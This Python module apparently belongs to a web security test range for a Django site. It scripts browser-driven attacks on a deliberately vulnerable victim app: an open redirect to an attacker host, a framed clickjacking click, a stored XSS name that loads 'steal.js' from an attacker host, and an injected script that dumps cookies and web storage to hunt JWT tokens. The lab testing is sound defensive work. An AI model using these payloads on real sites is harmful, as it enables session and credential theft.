"""Attacks in which the victim's own pages take part: a redirect, a frame, a stored payload, an injected script."""

import json
import re
from typing import Any
from urllib.parse import urlencode

from django.conf import settings

from attack_range import hosts
from attack_range.broken.tries import (
    Try,
    attacker_page,
    cookie,
    logged_in,
    refresh_user,
    session_user,
    token_user,
    wait_until,
)
from attack_range.people import Person
from attack_range.scene import Scene

PROFILE = "/session/profile/"
# Everything that an injected script can read without using the page's own script.
FIND = "() => JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}, document.body.innerHTML])"
TOKEN = re.compile(r"[\w-]{8,}\.[\w-]{8,}\.[\w-]{8,}")


def redirect(scene: Scene) -> Try:
    """A link to the login page has the attacker's address as ?next=, and Alice logs in there."""
    alice, page, refusals = scene.person(), scene.browser().new_page(), list[str]()
    page.on("console", lambda message: refusals.append(message.text))
    target = scene.url("/blank", hosts.ATTACKER)
    page.goto(f"{hosts.origin(hosts.VICTIM)}/session/login/?{urlencode({'next': target})}")
    _fill(page, alice)
    page.get_by_role("button", name="Log in").click(no_wait_after=True)
    wait_until(page, lambda: "/session/login/" not in page.url or any("form-action" in text for text in refusals))
    through = any(arrival.host.startswith(hosts.ATTACKER) for arrival in scene.attempt.arrivals)
    if through:
        return Try(True, "After the login the browser asked the attacker's host for a page.")
    blocked = any("form-action" in text for text in refusals)
    return Try(False, "The browser did not follow the redirect." if blocked else "The login led to the profile page.")


def _fill(page: Any, person: Person) -> None:
    page.get_by_label("E-mail address").fill(person.email)
    page.get_by_label("Password", exact=True).fill(person.password)


def click_in_frame(scene: Scene) -> Try:
    """A sibling host shows Alice's page of devices in a frame, and Alice clicks where the button of that page is."""
    page = logged_in(scene, scene.person(), "session")
    session = cookie(page, settings.SESSION_COOKIE_NAME)
    page.goto(attacker_page(hosts.SIBLING, "frame", to=hosts.origin(hosts.VICTIM) + "/session/devices/"))
    button = page.frame_locator("iframe").get_by_role("button", name="Log out everywhere")
    if not button.count():
        return Try(not session_user(scene, session), "The frame stayed empty, so there was nothing to click.")
    button.click()
    wait_until(page, lambda: page.frames[1].url.endswith("/logout-everywhere/"))
    ended = not session_user(scene, session)
    return Try(ended, f"Alice clicked in the frame. Her session {'is over' if ended else 'goes on'}.")


def stored_payload(scene: Scene) -> Try:
    """Alice's name is a script. It runs when Alice opens the profile page."""
    alice, where = scene.person(), scene.url("/broken/steal.js", hosts.ATTACKER)
    alice.user.name = f"<script src={where}></script>"
    alice.user.save()
    page = logged_in(scene, alice, "session")
    page.goto(hosts.origin(hosts.VICTIM) + PROFILE)
    fetched = any(arrival.path == "/broken/steal.js" for arrival in scene.attempt.arrivals)
    wait_until(page, lambda: not fetched or bool(scene.attempt.loot))
    if any(alice.email in text for text in scene.attempt.loot):
        return Try(True, "The script ran in Alice's page and sent her e-mail address to the attacker.")
    written = "as an element" if page.locator(f"script[src='{where}']").count() else "as text"
    return Try(False, f"The page holds the payload {written}. The browser did not run it.")


def search(scene: Scene) -> Try:
    """A script in the page of the JWT flow looks for a credential after a reload."""
    alice = scene.person()
    page = logged_in(scene, alice, "jwt")
    page.goto(hosts.origin(hosts.VICTIM) + "/jwt/")
    page.get_by_role("button", name="Log out", exact=False).first.wait_for()
    found: str = page.evaluate(FIND)
    tokens = set(TOKEN.findall(found))
    works = [token for token in tokens if str(alice.user.pk) in (token_user(scene, token), refresh_user(scene, token))]
    if works:
        place = "document.cookie" if works[0] in json.loads(found)[0] else "sessionStorage"
        return Try(True, f"The script found a token in {place}, and a clean client got in with it.")
    return Try(False, f"The script looked in every storage and found {len(tokens)} tokens.")
